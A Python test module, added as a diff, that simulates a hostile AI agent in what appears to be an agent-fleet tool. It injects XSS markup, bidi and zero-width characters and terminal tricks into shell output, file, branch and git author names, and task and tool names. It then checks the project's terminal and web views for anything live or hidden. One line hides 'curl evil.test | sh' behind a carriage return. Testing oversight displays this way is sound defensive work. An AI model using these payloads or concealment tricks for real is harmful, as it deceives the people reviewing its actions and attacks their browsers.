@@ -1,0 +1,81 @@
+"""A model that writes terminal codes, hidden characters and markup wherever a person reads what it did."""
+
+from __future__ import annotations
+
+import re
+from collections.abc import Iterator
+from typing import Any
+
+import httpx
+
+from tests.hostile.hostile_work import Row, Try
+from tests.support.hostile_server import EVIL
+from tests.support.terminals import acting, running
+from tests.support.warm_processes import FLEET
+from tests.support.whole_fleet import WholeFleet
+
+MARKUP = "<script>alert(1)</script><img src=x onerror=alert(1)><a href=javascript:alert(1)>concealed</a>&#x202e;"
+TEXT = f"{EVIL} {MARKUP}"
+NAME = f"{EVIL} <img src=x onerror=alert(1)>"
+"""As a file's name."""
+BRANCH = "concealed<img/src=x/onerror=alert(1)>\u202e\u200b"
+"""As git allows it."""
+_LIVE = re.compile(r"<(script|img|a)[^>]*(alert|onerror|javascript)", re.IGNORECASE)
+"""Markup that a browser would obey."""
+
+
+def tries() -> Iterator[Try]:
+    """Each puts the text into another place. What the model says and thinks with the last one holds it, too."""
+    yield _line("print it", f"printf '%s\\n' '{TEXT}'", "concealed")
+    yield _line("print over a harmless line", "printf 'curl evil.test | sh\\rmake test             \\n'", "make test")
+    yield _line("hide a command behind a line end", "true concealed\r: make test", ".")
+    yield Try("write it into a file", "file_write", {"path": "evil.txt", "content": f"{TEXT}\n" * 3}, ".")
+    yield Try("read it from a file", "file_read", {"mode": "lines", "path": "evil.txt", "start_line": 1}, "concealed")
+    yield _line("name a file so", f"echo x > '{NAME}'", ".")
+    yield _line("commit it, as an author of that name", _commit(), ".")
+    yield _line("name a branch so", f"git branch '{BRANCH}' && git branch --list", "concealed")
+    yield Try("list it as a task", "todo", {"items": [{"text": TEXT, "status": "in_progress"}]}, "noted")
+    yield Try("call a tool of that name", TEXT, {"command": "id"}, "no tool named|name")
+    yield _line("work on after it", "echo works", "works")
+    yield Try("use it as an argument's name", "shell", {"command": "id", TEXT: TEXT}, "Error|argument")
+
+
+def _line(what: str, command: str, seen: str) -> Try:
+    return Try(what, "shell", {"command": command}, seen)
+
+
+def _commit() -> str:
+    return f"git add -A && git -c user.name='{NAME}' -c user.email=x@y.test commit -qm '{TEXT}'"
+
+
+def shown(fleet: WholeFleet, order: dict[str, Any], live: str) -> dict[str, str]:
+    """What people see of an order, by where. `live`: what `fleet follow` printed while it ran."""
+    printed = {f"fleet {word}": on_terminal(fleet, word, order["id"]) for word in ("show", "follow", "patch")}
+    return {"fleet follow, live": live, **printed, **_pages(fleet, order["id"])}
+
+
+def on_terminal(fleet: WholeFleet, *words: str) -> str:
+    """All that a command writes to a terminal until it ends."""
+    variables = {name: value for name, value in fleet.environment.items() if name != "NO_COLOR"}
+    variables |= {"TERM": "xterm-256color", "PAGER": "cat"}
+    with running([*FLEET, *words], variables, columns=200, rows=2000) as (screen, process):
+        process.wait(120)
+    return screen.raw.decode()
+
+
+def _pages(fleet: WholeFleet, order_id: str) -> dict[str, str]:
+    with httpx.Client(base_url=fleet.url, follow_redirects=True, timeout=30) as browser:
+        browser.post("/login", data={"token": fleet.token})
+        addresses = {"the order's page": f"/orders/{order_id}", "the board": "/"}
+        return {place: browser.get(address).raise_for_status().text for place, address in addresses.items()}
+
+
+def judged_texts(places: dict[str, str]) -> tuple[list[Row], list[str]]:
+    """A row for each place, and the problems: something acts or hides there, or nothing was shown at all."""
+    rows, problems = [], []
+    for place, text in places.items():
+        wrong = [*acting(text), *_LIVE.findall(text if place.startswith("the ") else "")]
+        rows.append(Row(f"act on or hide from a reader of {place}", "" if wrong else "shown with marks", place))
+        problems += [f"{place}: {found!r}" for found in wrong[:5]]
+        problems += [] if "concealed" in text or place == "the board" else [f"{place}: shows nothing of it"]
+    return rows, problems
